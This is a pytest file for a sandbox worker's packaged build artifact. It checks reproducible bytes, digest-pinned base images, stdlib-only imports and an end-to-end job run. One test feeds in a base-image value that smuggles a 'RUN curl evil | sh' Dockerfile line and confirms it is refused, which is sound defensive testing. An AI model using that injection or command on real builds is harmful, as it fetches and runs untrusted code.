"""Tests for the worker code artifact: deterministic bytes, exact contents, and that it runs."""

from __future__ import annotations

import ast
import hashlib
import http.client
import json
import os
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandboxkit.aws.launcher import handler
from sandboxkit.aws.worker import build
from sandboxkit.aws.worker import main as worker
from support import LoopbackHTTP

EXPECTED_NAMES = [
    "Dockerfile",
    "sandboxkit_worker/__init__.py",
    "sandboxkit_worker/__main__.py",
    "sandboxkit_worker/main.py",
]


def test_same_sources_give_the_same_bytes(tmp_path: Path) -> None:
    first = build.build_artifact(tmp_path / "a")
    second = build.build_artifact(tmp_path / "b")
    again = build.build_artifact(tmp_path / "a")  # replaces the earlier file in place

    assert first.name == build.ARTIFACT_NAME
    assert first.read_bytes() == second.read_bytes() == again.read_bytes()
    assert build.sha256_file(first) == hashlib.sha256(second.read_bytes()).hexdigest()
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == [build.ARTIFACT_NAME]


def test_contents_change_the_hash(tmp_path: Path) -> None:
    default = build.build_artifact(tmp_path / "a")
    other = build.build_artifact(tmp_path / "b", base_image=f"python:3.13-slim@sha256:{'0' * 64}")

    assert build.sha256_file(default) != build.sha256_file(other)


def test_contains_exactly_the_worker_modules_and_the_dockerfile(tmp_path: Path) -> None:
    artifact = build.build_artifact(tmp_path)
    source_dir = Path(worker.__file__).parent

    with zipfile.ZipFile(artifact) as archive:
        infos = archive.infolist()
        assert [info.filename for info in infos] == EXPECTED_NAMES
        for module in ("__init__.py", "__main__.py", "main.py"):
            assert archive.read(f"sandboxkit_worker/{module}") == (source_dir / module).read_bytes()
        dockerfile = archive.read("Dockerfile").decode()
    for info in infos:
        assert info.date_time == (1980, 1, 1, 0, 0, 0)
        assert info.compress_type == zipfile.ZIP_STORED
        assert info.external_attr >> 16 == 0o100644
    assert f"FROM {build.DEFAULT_BASE_IMAGE}\n" in dockerfile
    assert 'CMD ["python3", "-m", "sandboxkit_worker"]' in dockerfile
    assert "SANDBOXKIT_COMMAND_UID=65534" in dockerfile


def test_worker_modules_import_nothing_outside_the_standard_library() -> None:
    source_dir = Path(worker.__file__).parent
    stdlib = set(sys.stdlib_module_names)
    for module in ("__init__.py", "__main__.py", "main.py"):
        for node in ast.walk(ast.parse((source_dir / module).read_text())):
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and node.level == 0:
                names = [node.module or ""]
            else:
                continue  # relative imports stay inside the packed package
            for name in names:
                assert name.split(".")[0] in stdlib, f"{module} imports {name}"


def test_bad_base_image_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="base_image"):
        build.build_artifact(tmp_path, base_image="python:3.12\nRUN curl evil | sh")
    assert list(tmp_path.iterdir()) == []


def test_a_base_image_by_tag_is_refused_naming_the_option(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Issue 32: the worker's Dockerfile started FROM python:3.12-slim, which nothing checked.
    tagged = "public.ecr.aws/docker/library/python:3.12-slim"
    with pytest.raises(SystemExit) as exited:
        build.main(["--out", str(tmp_path / "out"), "--base-image", tagged])
    assert exited.value.code == 2
    assert capsys.readouterr().err.splitlines()[-1] == (
        "python -m sandboxkit.aws.worker.build: error: --base-image: base_image "
        f"{tagged} must be pinned by digest (image@sha256:<64 hex digits>, as the registry "
        "reports it), so a moved tag cannot change what every MicroVM runs"
    )
    assert not (tmp_path / "out").exists()
    assert build.DEFAULT_BASE_IMAGE.startswith(f"{tagged}@sha256:")


def test_cli_prints_path_and_sha256(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert build.main(["--out", str(tmp_path / "out")]) == 0

    path_line, sha_line = capsys.readouterr().out.splitlines()
    artifact = Path(path_line)
    assert artifact == tmp_path / "out" / build.ARTIFACT_NAME
    assert sha_line == hashlib.sha256(artifact.read_bytes()).hexdigest()


# --- the packed worker runs on its own ---------------------------------------------------------


@pytest.fixture
def plane() -> Iterator[LoopbackHTTP]:
    """Loopback control plane: serves a one-command job and records every request."""
    job = {"jobId": "job_1", "commands": [["echo", "from-the-artifact"]]}
    with LoopbackHTTP() as stand_in:
        stand_in.answer("GET", "/v1/jobs/job_1", 200, job)
        stand_in.answer("POST", "/v1/jobs/job_1/results", 204)
        yield stand_in


def test_unpacked_artifact_serves_the_run_hook_and_completes_a_job(
    tmp_path: Path, plane: LoopbackHTTP
) -> None:
    unpacked = tmp_path / "guest"
    with zipfile.ZipFile(build.build_artifact(tmp_path / "dist")) as archive:
        archive.extractall(unpacked)
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LANG": "C.UTF-8"}
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "sandboxkit_worker",
            "--hooks-host",
            "127.0.0.1",
            "--hooks-port",
            "0",
        ],
        cwd=unpacked,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert process.stderr is not None
        first = json.loads(process.stderr.readline())
        assert first["event"] == "hooks_listening"
        port = int(first["port"])
        now = int(time.time())
        claims = {
            "v": 1,
            "aud": plane.url,
            "jobId": "job_1",
            "sessionId": "sess_1",
            "sandboxId": handler.client_token_for("sess_1"),
            "iat": now,
            "exp": now + 600,
        }
        credential = handler.mint_worker_credential(b"launcher-only-key", claims)
        payload = {
            "v": 2,
            "sessionId": "sess_1",
            "jobId": "job_1",
            "controlPlaneUrl": plane.url,
            "credential": credential,
            "execTimeoutSeconds": 5,
        }

        ready = _post(port, worker.HOOK_PATH_PREFIX + "ready", b"")
        run = _post(port, worker.RUN_HOOK_PATH, json.dumps(payload).encode())
        stdout, stderr = process.communicate(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()

    assert (ready, run) == (200, 200)
    assert process.returncode == worker.EXIT_OK, stderr
    assert [(r.method, r.path, r.headers["Authorization"]) for r in plane.requests] == [
        ("GET", "/v1/jobs/job_1", f"Bearer {credential}"),
        ("POST", "/v1/jobs/job_1/results", f"Bearer {credential}"),
    ]
    result = json.loads(plane.requests[1].body)["results"][0]
    assert (result["stdout"], result["exitCode"]) == ("from-the-artifact\n", 0)
    assert credential not in stdout + stderr


def _post(port: int, path: str, body: bytes) -> int:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        connection.request("POST", path, body=body)
        return connection.getresponse().status
    finally:
        connection.close()
